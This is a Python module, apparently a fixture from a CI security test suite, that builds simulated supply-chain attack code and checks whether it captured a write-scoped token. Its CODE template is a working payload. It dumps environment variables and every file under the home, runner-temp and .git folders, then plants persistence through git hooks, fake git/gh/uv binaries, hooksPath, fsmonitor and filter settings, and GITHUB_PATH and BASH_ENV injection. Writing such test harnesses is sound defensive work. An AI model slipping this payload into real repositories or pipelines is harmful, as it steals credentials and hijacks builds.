"""Code that somebody smuggles in, by a package or a version of the template: it is after a token that can write.

It takes what it finds, and leaves behind what might run later, where a token is.
"""

from pathlib import Path

#: In every token that can write, as the stand-in for GitHub makes them.
LOOKED_FOR = ":write"

CODE = """\
import os
import subprocess
from pathlib import Path

LOOT = Path({loot!r})
HOOK = "#!/bin/sh\\n{{ echo left behind: $0; env; cat ~/.gitconfig; }} >> " + str(LOOT) + "\\n"
HOOKS = ("applypatch-msg", "pre-applypatch", "pre-commit", "prepare-commit-msg", "commit-msg", "post-commit",
         "post-checkout", "pre-push", "reference-transaction", "post-index-change", "pre-auto-gc")


def executable(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)


home, temp = Path.home(), Path(os.environ["RUNNER_TEMP"])
readable = [path for folder in (home, temp, Path(".git")) for path in folder.rglob("*") if path.is_file()]
with LOOT.open("a") as file:
    print("visited", dict(os.environ), file=file)
    for path in readable:
        print(path.read_bytes(), file=file)
for name in HOOKS:
    executable(Path(".git/hooks", name), HOOK)
    executable(temp / "hooks" / name, HOOK)
for name in ("git", "gh", "uv"):
    executable(Path(name), HOOK)
    executable(temp / "programs" / name, HOOK)
executable(Path("left.sh"), HOOK + "cat\\n")
for scope in ("--local", "--global"):
    for name, value in {{
        "core.hooksPath": str(temp / "hooks"),
        "core.fsmonitor": str(temp / "programs" / "git"),
        "filter.left.clean": "sh ./left.sh",
        "filter.left.smudge": "sh ./left.sh",
    }}.items():
        subprocess.run(["git", "config", scope, name, value], check=True)
Path(".gitattributes").write_text("* filter=left\\n")
with open(os.environ["GITHUB_PATH"], "a") as file:
    print(temp / "programs", file=file)
with open(os.environ["GITHUB_ENV"], "a") as file:
    print("BASH_ENV=" + str(Path("left.sh").absolute()), file=file)
{more}
"""


class Intruder:
    """What somebody smuggles in, and what it got.

    Args:
        folder: Where it brings what it takes.
    """

    def __init__(self, folder: Path) -> None:
        self._loot = folder / "loot"

    def code(self, more: str = "") -> str:
        """The code.

        Args:
            more: Further lines.
        """
        return CODE.format(loot=str(self._loot), more=more)

    @property
    def came_in(self) -> bool:
        """Whether the code has run at all."""
        return "visited" in self.loot

    @property
    def loot(self) -> str:
        """What it took."""
        return self._loot.read_text(encoding="utf-8") if self._loot.exists() else ""

    @property
    def got_a_token(self) -> bool:
        """Whether it has one that can write."""
        return LOOKED_FOR in self.loot
